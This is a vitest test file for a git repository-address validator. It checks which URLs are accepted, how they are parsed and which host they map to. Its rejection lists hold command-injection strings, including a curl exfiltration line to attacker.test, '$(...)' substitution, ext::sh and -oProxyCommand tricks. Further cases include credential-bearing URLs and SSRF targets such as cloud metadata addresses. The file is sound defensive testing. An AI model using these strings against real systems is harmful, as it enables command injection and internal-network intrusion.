import { expect, test } from 'vitest'
import {
  parseRepositoryAddress,
  RepositoryAddress,
  repositoryAddressFault,
  repositoryHostOf,
} from './repository-address.ts'
import { codeOf } from './rule.ts'

test.each([
  ['https://github.com/o/r.git', { protocol: 'https', host: 'github.com', path: '/o/r.git' }],
  ['https://Git.Example.com:8443/a/b/c', { protocol: 'https', host: 'git.example.com', port: 8443, path: '/a/b/c' }],
  ['https://xn--mnchen-3ya.de/~me/x+y', { protocol: 'https', host: 'xn--mnchen-3ya.de', path: '/~me/x+y' }],
  ['ssh://git@github.com/o/r.git', { protocol: 'ssh', user: 'git', host: 'github.com', path: '/o/r.git' }],
  ['ssh://git@127.0.0.1:2222/x.git', { protocol: 'ssh', user: 'git', host: '127.0.0.1', port: 2222, path: '/x.git' }],
  ['ssh://git@[fd00::1]:22/x.git', { protocol: 'ssh', user: 'git', host: 'fd00::1', port: 22, path: '/x.git' }],
  ['git@github.com:o/r.git', { protocol: 'ssh', user: 'git', host: 'github.com', path: 'o/r.git' }],
  ['forge@gitea:/srv/git/x.git', { protocol: 'ssh', user: 'forge', host: 'gitea', path: '/srv/git/x.git' }],
])('%s is an address, kept as it is', (text, parts) => {
  expect(RepositoryAddress.parse(text)).toBe(text)
  expect(parseRepositoryAddress(text)).toEqual(parts)
})

const otherProtocols = [
  'EXT::sh -c touch% $CANARY',
  'ext::sh',
  'file:///etc',
  '/etc',
  './../..',
  '-oProxyCommand=touch $CANARY:x',
  'http://example.com/x.git',
  'git://example.com/x.git',
  'http://example.com:test/foo.git',
  'javascript:alert(1)',
  'HTTPS://example.com/x.git',
  'example.com/x.git',
  '',
]
const injections = [
  'git@github.com:user/repo.git;curl https://attacker.test/ -X POST --data `whoami`',
  "https://github.com/user/repo.git';curl https://attacker.test/",
  'https://github.com/o/r.git$(touch $CANARY)',
  'https://github.com/o/r.git\n--upload-pack=x',
  'https://github.com/o/r.git\n',
  'https://one.example.com/evil?%0ahost=two.example.com',
  'https://github.com/o/r.git#x',
  'https://github.com/o/%2e%2e/r.git',
  'https://github.com/o/../r.git',
  'https://github.com/./r.git',
  'https://github.com/--upload-pack=x',
  'https://github.com/o/-r',
  'https://github.com//r.git',
  'https://github.com/o/',
  'https://github.com/',
  'https://github.com',
  'git@github.com:-x',
  'git@github.com:../x',
  'git@github.com:',
  'git@-oProxyCommand:x',
  '-l@github.com:x',
  'ssh://-oProxyCommand=x/x',
]
const wrongHosts = [
  'https:///example.com/foo.git',
  'https://github.com@evil.example/x.git',
  'https://github.com\\@evil.example/x.git',
  'https://user:token@github.com/a/b.git',
  'https://token@github.com/a/b.git',
  'ssh://git:secret@github.com/a/b.git',
  'ssh://github.com/a/b.git',
  'https://0/x.git',
  'https://127.1/x.git',
  'https://2130706433/x.git',
  'https://0x7f000001/x.git',
  'https://\u2460\u2461\u2466.0.0.1/x.git',
  'https://１２７.0.0.1/x.git',
  'https://münchen.de/x.git',
  'https://[0:0:0:0:0:0:0:1]/x.git',
  'https://github.com:0/x.git',
  'https://github.com:65536/x.git',
  'https://github.com:/x.git',
  'https://github.com./x.git',
  'https://a_b.example/x.git',
]
test.each([...otherProtocols, ...injections, ...wrongHosts])('%j is no address of a repository', (text) => {
  expect(RepositoryAddress.safeParse(text).error?.issues.map(codeOf)).toEqual(['invalid_repo_url'])
  expect(repositoryAddressFault(text, { allowedNetworks: ['0.0.0.0/0', '::/0'] })?.code).toBe('invalid_repo_url')
})

test('an address of 54,000 characters is too long', () => {
  const { error } = RepositoryAddress.safeParse('https://a.example/'.repeat(3000))
  expect(error?.issues.map(codeOf)).toEqual(['too_long'])
})

test.each([
  'https://[::1]/x.git',
  'https://127.0.0.1/x.git',
  'https://169.254.169.254/latest/meta-data',
  'https://metadata.google.internal/x',
  'https://10.0.0.5/x.git',
  'https://192.168.1.1/x.git',
  'https://172.17.0.1:2375/containers/json',
  'https://100.100.100.200/x',
  'https://[fd00::1]/x',
  'https://[::ffff:7f00:1]/x',
  'ssh://git@127.0.0.1:22/x.git',
  'git@127.0.0.1:x.git',
  'https://localhost/x.git',
  'https://LOCALHOST/x.git',
  'https://git.localhost/x.git',
  'https://printer.local/x.git',
  'git@gitea:x.git',
])('%s is in a private network and not allowed by default', (text) => {
  expect(RepositoryAddress.safeParse(text).success).toBe(true)
  expect(repositoryAddressFault(text, { allowedNetworks: [] })?.code).toBe('network_not_allowed')
})

test.each([
  ['ssh://git@127.0.0.1:2222/x.git', '127.0.0.0/8'],
  ['ssh://git@[::1]:2222/x.git', '::1'],
  ['git@gitea:x.git', 'gitea'],
  ['https://git.corp.internal/x.git', 'Git.corp.internal'],
])('%s is taken when an administrator allows %s', (text, allowed) => {
  expect(repositoryAddressFault(text, { allowedNetworks: [allowed] })).toBeUndefined()
  expect(repositoryAddressFault(text, { allowedNetworks: ['192.168.0.0/16', 'x.internal'] })).toBeDefined()
})

test.each(['https://github.com/o/r.git', 'https://rebind.attacker.test/x.git', 'https://140.82.121.4/x.git'])(
  '%s is taken, since a name is checked again when it is resolved',
  (text) => {
    expect(repositoryAddressFault(text, { allowedNetworks: [] })).toBeUndefined()
  },
)

test.each([
  ['git@github.com:o/r.git', 'github'],
  ['https://gitlab.com/o/r.git', 'gitlab'],
  ['https://gitlab.example.com/o/r.git', 'gitlab'],
  ['https://bitbucket.org/o/r.git', 'bitbucket'],
  ['https://codeberg.org/o/r.git', 'gitea'],
  ['git@gitea.example.com:o/r.git', 'gitea'],
  ['https://forgejo.example.com/o/r.git', 'gitea'],
  ['https://notgitlab.com/o/r.git', 'github'],
  ['https://git.example.com/o/r.git', 'github'],
])('%s is probably on %s', (address, host) => {
  expect(repositoryHostOf(address)).toBe(host)
})
